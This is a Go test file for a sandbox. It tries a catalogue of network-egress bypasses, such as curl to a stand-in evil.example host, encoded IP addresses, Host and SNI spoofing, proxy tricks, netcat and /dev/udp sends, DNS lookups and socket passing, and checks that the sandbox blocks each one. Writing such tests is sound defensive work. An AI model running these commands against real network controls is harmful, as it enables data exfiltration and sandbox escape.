package main_test

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"skillrun/sandbox/sandboxtest"
)

// shellBypasses are ways past a gate that ordinary programs offer. TOKEN is what
// must not be seen outside; 151.101.1.69 is a place that nobody granted.
var shellBypasses = [][2]string{
	{"name", `curl -s -m 5 http://TOKEN.evil.example/`},
	{"name-dot", `curl -s -m 5 http://TOKEN.evil.example./`},
	{"name-capitals", `curl -s -m 5 http://TOKEN.EVIL.EXAMPLE/`},
	{"name-beneath", `curl -s -m 5 http://TOKEN.good.example/`},
	{"name-prefix", `curl -s -m 5 http://good.example.TOKEN.evil.example/`},
	{"name-userinfo", `curl -s -m 5 http://good.example@TOKEN.evil.example/`},
	{"name-getent", `getent hosts TOKEN.evil.example`},
	{"name-nslookup", `busybox nslookup TOKEN.evil.example 8.8.8.8`},
	{"name-search", `LOCALDOMAIN=evil.example RES_OPTIONS=ndots:5 getent hosts TOKEN`},
	{"name-aliases", `echo "TOKEN TOKEN.evil.example" >aliases; HOSTALIASES=$PWD/aliases getent hosts TOKEN.evil.example`},
	{"decimal", `curl -s -m 5 http://2539979077/TOKEN`},
	{"hexadecimal", `curl -s -m 5 http://0x97650145/TOKEN`},
	{"octal", `curl -s -m 5 http://0227.0145.01.0105/TOKEN`},
	{"short", `curl -s -m 5 http://151.6619461/TOKEN`},
	{"web-mapped", `curl -s -m 5 -g 'http://[::ffff:151.101.1.69]/TOKEN'`},
	{"resolve", `curl -s -m 5 --resolve good.example:80:151.101.1.69 http://good.example/TOKEN`},
	{"resolve-tls", `curl -s -m 5 -k --resolve good.example:443:151.101.1.69 https://good.example/TOKEN`},
	{"interface", `curl -s -m 5 --interface lo http://151.101.1.69/TOKEN`},
	{"host", `curl -s -m 5 -H 'Host: TOKEN.evil.example' http://good.example/`},
	{"host-port", `curl -s -m 5 -H 'Host: TOKEN.evil.example:80' http://good.example/`},
	{"absolute", `curl -s -m 5 -x http://good.example:80 http://TOKEN.evil.example/`},
	{"connect", `curl -s -m 5 -p -x http://good.example:80 http://TOKEN.evil.example/`},
	{"redirect", `curl -s -m 5 -L http://good.example/redirect/$(echo TOKEN | tr - _).evil.example`},
	{"sni", `openssl s_client -connect good.example:443 -servername TOKEN.evil.example </dev/null`},
	{"proxy-variable", `http_proxy=http://151.101.1.69:7777 curl -s -m 2 http://good.example/TOKEN`},
	{"proxy-tunnel", `curl -s -m 2 -p -x http://151.101.1.69:7777 --proxy-header 'X: TOKEN' https://good.example/`},
	{"proxy-socks", `curl -s -m 2 -x socks4a://TOKEN@151.101.1.69:7777 http://good.example/`},
	{"no-proxy", `no_proxy='*' NO_PROXY='*' curl -s -m 5 http://TOKEN.evil.example/`},
	{"netcat", `echo TOKEN | nc -N -w 2 151.101.1.69 7777`},
	{"netcat-udp", `echo TOKEN | nc -u -w 1 151.101.1.69 7777`},
	{"bash-udp", `bash -c 'echo TOKEN >/dev/udp/151.101.1.69/7777'`},
	{"git", `git ls-remote http://TOKEN.evil.example/x`},
	{"git-daemon", `timeout 2 git ls-remote git://151.101.1.69:7777/TOKEN`},
	{"python", `python3 -c "import urllib.request as u; u.urlopen('http://151.101.1.69/TOKEN', timeout=5)"`},
	{"node", `node -e "require('dgram').createSocket('udp4').send('TOKEN', 7777, '151.101.1.69', () => process.exit())"`},
	{"node-dns", `node -e "const r = new (require('dns').Resolver)(); r.setServers(['8.8.8.8']); r.resolveTxt('TOKEN.evil.example', () => process.exit())"`},
}

// outsiders are what a run may find outside of it: sockets that pass
// connections on, and descriptors that were left open.
func outsiders(t *testing.T, work string) (files []*os.File, kept int) {
	t.Helper()
	path := filepath.Join(work, "rights.sock")
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	if err := os.Chmod(path, 0o777); err != nil {
		t.Fatal(err)
	}
	go passConnections(ln)
	dial := func() *os.File {
		c, err := net.Dial("tcp", "151.101.1.69:7777")
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { f.Close() })
		return f
	}
	files = append(files, dial())
	for _, kind := range []int{syscall.SOCK_STREAM, syscall.SOCK_DGRAM} {
		s, err := syscall.Socket(syscall.AF_INET, kind|syscall.SOCK_CLOEXEC, 0)
		if err != nil {
			t.Fatal(err)
		}
		f := os.NewFile(uintptr(s), "socket")
		t.Cleanup(func() { f.Close() })
		files = append(files, f)
	}
	return files, int(dial().Fd())
}

// passConnections hands each client a connection to the outside.
func passConnections(ln net.Listener) {
	sandboxtest.Serve(ln, func(c net.Conn) {
		out, err := net.Dial("tcp", "151.101.1.69:7777")
		if err != nil {
			return
		}
		defer out.Close()
		f, err := out.(*net.TCPConn).File()
		if err != nil {
			return
		}
		defer f.Close()
		c.(*net.UnixConn).WriteMsgUnix([]byte("x"), syscall.UnixRights(int(f.Fd())), nil)
		c.SetReadDeadline(time.Now().Add(10 * time.Second))
		c.Read(make([]byte, 1))
	})
}

// callIn connects to where a run may have begun to listen, until done is
// closed, and notes what it is told.
func (w *internet) callIn(addr string, done chan struct{}) {
	for {
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			c.SetDeadline(time.Now().Add(2 * time.Second))
			b, _ := io.ReadAll(c)
			c.Close()
			w.note("called %s %q", addr, b)
		}
		select {
		case <-done:
			return
		case <-time.After(20 * time.Millisecond):
		}
	}
}

// TestBypass tries in each environment to get from a run to what its manifest
// does not name. Bare, each attempt gets there.
func TestBypass(t *testing.T) {
	t.Parallel()
	if !inOwnInternet(t) {
		return
	}
	w := newInternet(t, map[string]string{"good.example": "93.184.216.34", "*.evil.example": "151.101.1.69", "*.good.example": "93.184.216.34"})
	w.sink(t)
	os.WriteFile("/proc/sys/net/ipv4/ping_group_range", fmt.Appendf(nil, "%d %d", os.Getegid(), os.Getegid()), 0)
	os.WriteFile("/proc/sys/net/ipv4/conf/all/accept_local", []byte("1"), 0)
	binary := filepath.Join(t.TempDir(), "bypass")
	if out, err := exec.Command("gcc", "-O", "-Wall", "-Werror", "-o", binary, "testdata/bypass.c", "-pthread").CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v: %s", err, out)
	}
	list, err := exec.Command(binary).Output()
	if err != nil {
		t.Fatal(err)
	}
	names := strings.Fields(string(list))
	for _, b := range shellBypasses {
		names = append(names, b[0])
	}
	if len(names) < 60 {
		t.Errorf("%d attempts; 60 are the least", len(names))
	}
	b, err := os.ReadFile(binary)
	if err != nil {
		t.Fatal(err)
	}
	sites := newSites(t, clientManifest, map[string]string{"bypass": string(b)})
	abstract, err := net.Listen("unix", "@skillrun-test-rights")
	if err != nil {
		t.Fatal(err)
	}
	defer abstract.Close()
	go passConnections(abstract)
	done := make(chan struct{})
	defer close(done)
	for _, at := range []string{"127.0.0.1:9100", "[::1]:9101", "203.0.113.77:9102"} {
		go w.callIn(at, done)
	}
	token := func(mark, name string) string { return "tok-" + mark + "-" + name + "-z" }
	// attempt makes each attempt once, all at the same time; of the shell's, those
	// whose tokens are wanted.
	attempt := func(t *testing.T, s site, bare bool, mark string, wanted []string) {
		files, kept := outsiders(t, filepath.Join(s.dir, "work"))
		script := fmt.Sprintf("(\n./bypass %s %d %d &\n", mark, os.Getpid(), kept)
		for _, b := range shellBypasses {
			if to := token(mark, b[0]); slices.Contains(wanted, to) {
				script += strings.ReplaceAll(b[1], "TOKEN", to) + " &\n"
			}
		}
		out, _ := s.start(t, bare, script+"curl -sS http://good.example/granted-"+mark+"\nwait\n) 2>&1", files...)
		if !strings.Contains(out, "all were tried") || len(w.await([]string{"granted-" + mark})) > 0 {
			t.Errorf("%s: what is granted was not reached, or not all was tried: %s", s.name, out)
		}
		os.Remove(filepath.Join(s.dir, "work", "rights.sock"))
	}
	tokens := func(mark string) (list []string) {
		for _, name := range names {
			list = append(list, token(mark, name))
		}
		return list
	}
	// All at once on a machine that is busy, one or another may not be in time:
	// each has to get there once.
	lacking := tokens("bare")
	for try := 0; try < 5 && len(lacking) > 0; try++ {
		attempt(t, sites[0], true, "bare", lacking)
		lacking = w.await(lacking)
	}
	if len(lacking) > 0 {
		t.Errorf("not seen from bare programs either: %v", lacking)
	}
	for i, s := range sites {
		t.Run(s.name, func(t *testing.T) {
			mark := fmt.Sprintf("in%d", i)
			attempt(t, s, false, mark, tokens(mark))
			// What was sent before this has arrived when this has.
			end := "end-" + mark
			sites[0].start(t, true, `echo `+end+`-tcp | nc -N -w 2 151.101.1.69 7777; echo `+end+`-udp | nc -u -w 1 151.101.1.69 7777; curl -s http://good.example/`+end+`-web`)
			if lacking := w.await([]string{end + "-tcp", end + "-udp", end + "-web"}); len(lacking) > 0 {
				t.Errorf("the servers are gone: %v", lacking)
			}
		})
	}
	seen := w.reached()
	for i, s := range sites {
		for _, token := range tokens(fmt.Sprintf("in%d", i)) {
			if at := slices.IndexFunc(seen, func(n string) bool { return strings.Contains(n, token) }); at >= 0 {
				t.Errorf("%s: through: %s", s.name, seen[at])
			}
		}
	}
}

// TestDatagramPorts: datagrams reach a host that is granted without a port at
// any, whichever call tells their address, and reach no other.
func TestDatagramPorts(t *testing.T) {
	if !inOwnInternet(t) {
		return
	}
	w := newInternet(t, nil)
	w.sink(t)
	script := func(mark, host string) string {
		return fmt.Sprintf(`bash -c 'echo %[1]s-connect- >/dev/udp/%[2]s/7777'
perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); send(S, "%[1]s-sendto-", 0, sockaddr_in(5353, inet_aton("%[2]s"))) or die $!'`, mark, host)
	}
	tokens := func(mark string) []string { return []string{mark + "-connect-", mark + "-sendto-"} }
	for i, s := range newSites(t, strings.ReplaceAll(strings.Replace(clientManifest, "external_api.call", "network.client", 1), "good.example", "93.184.216.34"), nil) {
		t.Run(s.name, func(t *testing.T) {
			mark := fmt.Sprintf("at%d", i)
			_, errs := s.start(t, false, script("evil"+mark, "151.101.1.69")+"\n"+script(mark, "93.184.216.34"))
			if lacking := w.await(tokens(mark)); len(lacking) > 0 {
				t.Errorf("lost: %v: %s", lacking, errs)
			}
			s.start(t, true, script("bare"+mark, "151.101.1.69"))
			if lacking := w.await(tokens("bare" + mark)); len(lacking) > 0 {
				t.Errorf("lost without a run: %v", lacking)
			}
		})
	}
	for _, seen := range w.reached() {
		if strings.Contains(seen, "evil") {
			t.Errorf("through: %s", seen)
		}
	}
}

// TestSentLast: what a run sends just before its end is not lost.
func TestSentLast(t *testing.T) {
	if !inOwnInternet(t) {
		return
	}
	w := newInternet(t, nil)
	w.sink(t)
	for i, s := range newSites(t, strings.ReplaceAll(strings.Replace(clientManifest, "external_api.call", "network.client", 1), "good.example", "93.184.216.34"), nil) {
		t.Run(s.name, func(t *testing.T) {
			for k, send := range []string{`socket(T, PF_INET, SOCK_STREAM, 0); connect(T, sockaddr_in(7777, inet_aton("93.184.216.34"))) or die $!; syswrite(T, "MARK-$_-\n") for 1..50`, `connect(S, $to); send(S, "MARK-$_-", 0) for 1..50`, `send(S, "MARK-$_-", 0, $to) for 1..50`} {
				mark := fmt.Sprintf("last%d%d", i, k)
				_, errs := s.start(t, false, `exec perl -MSocket -e '$to = sockaddr_in(5353, inet_aton("93.184.216.34")); socket(S, PF_INET, SOCK_DGRAM, 0); `+strings.Replace(send, "MARK", mark, 1)+`; kill 9, $$'`)
				var tokens []string
				for n := range 50 {
					tokens = append(tokens, fmt.Sprintf("%s-%d-", mark, n+1))
				}
				if lacking := w.await(tokens); len(lacking) > 0 {
					t.Errorf("lost of %s: %v: %s", send, lacking, errs)
				}
			}
		})
	}
}
